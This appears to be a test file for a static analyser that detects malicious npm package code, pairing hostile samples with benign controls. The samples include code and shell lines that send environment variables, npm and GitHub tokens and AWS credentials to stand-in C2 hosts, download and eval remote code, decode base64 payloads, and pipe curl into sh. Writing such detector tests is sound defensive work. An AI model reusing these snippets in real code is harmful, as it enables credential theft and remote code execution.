  assert.ok(sig("const https = require('https');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\nget(u).then((c) => (0, eval)(c));").includes('eval/eval-downloaded'));
  assert.ok(sig('async function load(u) { const r = await fetch(u); return r.text(); }\n(async () => { Function(await load(u))(); })();').includes('eval/eval-downloaded'));
  // Control: a helper returning a constant template.
  assert.ok(!sig("function tpl() { return 'return 1'; }\nFunction(tpl())();").includes('eval/eval-downloaded'));
});

test('independent review 2: Worker eval, data: URL imports, environment copies, hosts folded from pieces, payloads split across files', () => {
  const sig = (source: string, module = false) => caps(analyzeSource(source, { module }));
  const b64 = Buffer.from("require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())").toString('base64');
  const inlined = Buffer.from("self.onmessage = (e) => fetch(e.data).then((r) => postMessage(r.status));").toString('base64');
  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(atob('${b64}'), { eval: true });`).includes('eval/decoded-exec'));
  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(code, { eval: true });`).includes('eval'));
  assert.ok(sig(`await import('data:text/javascript;base64,' + '${b64}');`, true).includes('eval/decoded-exec'));
  assert.ok(sig("import('node:https').then((h) => h.get('https://c2.example.invalid/'));", true).includes('network'));
  // Controls: a worker from a file; a feature probe that imports an empty data: URL.
  assert.deepEqual(sig("const { Worker } = require('worker_threads');\nnew Worker(__dirname + '/task.js', { eval: false });"), []);
  assert.ok(!sig("import('data:text/javascript;base64,Cg==');", true).includes('eval/decoded-exec'));
  // A bundler's inlined worker: base64 in a data: URL, code that only makes requests, analysed as code.
  const worker = sig(`const { Worker } = require('worker_threads');\nconst src = '${inlined}';\nnew Worker(new URL(\`data:application/javascript;base64,\${src}\`));`);
  assert.ok(worker.includes('network') && !worker.includes('eval/decoded-exec'), worker.join());

  assert.ok(sig('const e = Object.assign({}, process.env);\nsend(JSON.stringify(e));').includes('env/env-serialize'));
  assert.ok(sig('const e = { ...process.env };\nconst f = e;\nsend(JSON.stringify(f));').includes('env/env-serialize'));
  assert.ok(sig('const s = {};\nObject.assign(s, process.env);\nsend(Buffer.from(JSON.stringify(s)));').includes('env/env-serialize'));
  assert.ok(sig('const c = structuredClone(process.env);\nsend(JSON.stringify(c));').includes('env/env-serialize'));
  // Control: a copy handed to a child process; setting a variable on a copy is not setting it for the process.
  assert.ok(!sig("const env = { ...process.env, X: '1' };\nrequire('child_process').spawn('x', { env });").includes('env/env-serialize'));
  assert.deepEqual(analyzeSource("const env = Object.assign({}, process.env);\nenv.NODE_TLS_REJECT_UNAUTHORIZED = '0';").hooks, []);

  const host = (source: string) => sig(source).includes('network/known-endpoint');
  assert.ok(host("let h = '';\nfor (const p of ['web', 'hook', '.si', 'te']) h += p;\nfetch('https://' + h + '/x');"));
  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].map((c) => String.fromCharCode(c)).join('');\nfetch('https://' + h);"));
  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].reduce((s, c) => s + String.fromCharCode(c), '');\nfetch(`https://${h}/`);"));
  assert.ok(host("const t = [112,105,112,101,100,114,101,97,109,46,110,101,116];\nlet h = '';\nfor (const c of t) h += String.fromCharCode(c);\nfetch(h);"));
  // Controls: pieces that only contain a name, no request; a name inside one longer word.
  assert.ok(!host("const parts = ['web', 'hook', '.si', 'te'];\nconsole.log(parts);"));
  assert.ok(!host("const a = ['notweb', 'hook.site'];\nfetch(url);"));

  assert.ok(sig("const parts = [require('./a'), require('./b')];\neval(Buffer.from(parts.join(''), 'base64').toString());").includes('eval/decoded-exec'));
  assert.ok(sig("const fs = require('fs');\nnew Function(atob(fs.readFileSync(__dirname + '/x.txt', 'utf8')))();").includes('eval/decoded-exec'));
  // Controls: a sibling file evaluated as it is (old-style loaders); decoded pieces compiled as WebAssembly.
  assert.ok(!sig("const fs = require('fs');\nrequire('vm').runInThisContext(fs.readFileSync(__dirname + '/lib.js', 'utf8'));").includes('eval/decoded-exec'));
  assert.ok(!sig("WebAssembly.compile(Buffer.from(require('./a') + require('./b'), 'base64'));").includes('eval/decoded-exec'));
});

test('independent review 2: shell commands that dump the environment or expand secret variables', async () => {
  const { analyzeCommand } = await import('../../src/audit/code/analyze.js');
  const sig = (command: string) => [...new Set(analyzeCommand(command).map((e) => `${e.capability}/${e.signal ?? ''}`))].sort();
  assert.ok(sig('printenv | gzip | base64 -w0 > /tmp/e').includes('obfuscation/encoded-dump'));
  assert.ok(sig('curl -d "$(env)" https://c2.example.invalid/').includes('env/env-serialize'));
  assert.ok(sig("p''rintenv | base64").includes('obfuscation/encoded-dump'));
  assert.ok(sig('wget "https://c2.example.invalid/?t=${NPM_TOKEN}"').includes('env/env-secret'));
  assert.ok(sig('curl https://c2.example.invalid/ -H "x: %GITHUB_TOKEN%"').includes('env/env-secret'));
  // Controls: env as a launcher, printenv of one variable, npm's own variables.
  for (const command of ['env BUILD=1 node build.js', 'printenv NODE_ENV', 'echo $npm_package_version', 'cross-env NODE_ENV=production webpack']) {
    assert.ok(!sig(command).some((s) => s.startsWith('env/') || s.startsWith('obfuscation/')), command);
  }
});

test('independent review 2: binding.gyp command expansions run at install; test files the main file loads are not context', async () => {
  const { gypCommands } = await import('../../src/audit/code/package.js');
  assert.deepEqual(gypCommands('{ "a": ["<!(node -p \\"require(\'x\').dir\\")", "<!@(pkg-config --libs ssl)", "<(x)"] }').map((c) => c.command), ['node -p \\"require(\'x\').dir\\"', 'pkg-config --libs ssl']);
  const dir = mkdtempSync(join(work, 'entry-closure-'));
  mkdirSync(join(dir, 'test'));
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', main: 'lib.js' }));
  writeFileSync(join(dir, 'lib.js'), "require('./test/setup');");
  writeFileSync(join(dir, 'test/setup.js'), 'globalThis.fetch = () => 1;');
  writeFileSync(join(dir, 'test/other.js'), 'globalThis.fetch = () => 2;');
  const verdict = judgePackage('p', analyzePackageDir(dir), { verified: false, reason: '' });
  assert.deepEqual(verdict.findings.map((f) => `${f.severity} ${f.evidence[0]!.file}`).sort(), ['high test/setup.js', 'info test/other.js']);
});

test('independent review 2: computed paths inside the package are followed (require(path.join(__dirname, ...)), .node addons); gyp action lists are commands', async () => {
  const facts = analyzeSource("const path = require('path');\nrequire(path.join(__dirname, 'test', 'helper'));\nrequire(__dirname + '/prebuilds/' + process.arch + '.node');\nrequire(path.join(__dirname, 'plugins', name));");
  assert.deepEqual(facts.imports, ['./test/helper']);
  assert.ok(caps(facts).includes('native-binary/native-load'));
  const { gypCommands } = await import('../../src/audit/code/package.js');
  assert.deepEqual(gypCommands("{ 'actions': [ { 'action': [ 'sh', '-c', 'curl x | sh' ] } ] }").map((c) => c.command), ['sh -c curl x | sh']);
});

test('independent review 2: a secret or a download handed to a function of the file that sends or evaluates its parameter', () => {
  const sig = (source: string) => caps(analyzeSource(source));
  assert.ok(sig("const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');\npost(k);\nfunction post(d) { fetch('https://x.example.invalid/', { method: 'POST', body: d }); }").includes('recon/secret-flow'));
  assert.ok(sig("const run = (c) => eval(c);\nfetch(u).then((r) => r.text()).then((t) => run(t));").includes('eval/eval-downloaded'));
  // Controls: the parameter goes only into headers; the function is called with constants.
  assert.ok(!sig("const k = require('fs').readFileSync('.env', 'utf8');\nauth(k);\nfunction auth(t) { fetch(u, { headers: { authorization: t } }); }").includes('recon/secret-flow'));
  assert.ok(!sig("function run(c) { eval(c); }\nrun('1 + 1');").includes('eval/eval-downloaded'));
});

test('a large file parsed with offsets up front gets the same facts as a small one parsed without (and again with them)', async () => {
  const { OFFSETS_UP_FRONT } = await import('../../src/audit/code/analyze.js');
  const plain = [
    'const cp = require("child_process");',
    'function run(cmd) { return cp.exec(cmd); }',
    'module.exports = (name) => require(name);',
    'eval("require(\'os\').hostname()");',
    'run(process.argv[2]);',
  ].join('\n');
  // A finding points at this one: the offset-free walk stops and the file is walked again with offsets.
  const precise = `${plain}\nfetch("https://x.oast.fun.invalid/" + require("os").hostname());\nglobalThis.fetch = function (u) { return u; };\n`;
  for (const source of [plain, precise]) {
    const large = `${source}\n${' '.repeat(OFFSETS_UP_FRONT)}`;
    assert.ok(source.length < OFFSETS_UP_FRONT && large.length >= OFFSETS_UP_FRONT);
    const small = analyzeSource(source);
    assert.ok(small.parsed && small.evidence.length > 0);
    assert.deepEqual(analyzeSource(large), small);
  }
  const facts = analyzeSource(`${precise}\n${' '.repeat(OFFSETS_UP_FRONT)}`);
  assert.equal(facts.evidence.find((e) => e.signal === 'known-endpoint')?.line, 6);
  assert.deepEqual(facts.hooks.map((h) => `${h.rule}:${h.line}`), ['reassign-fetch:7']);
});
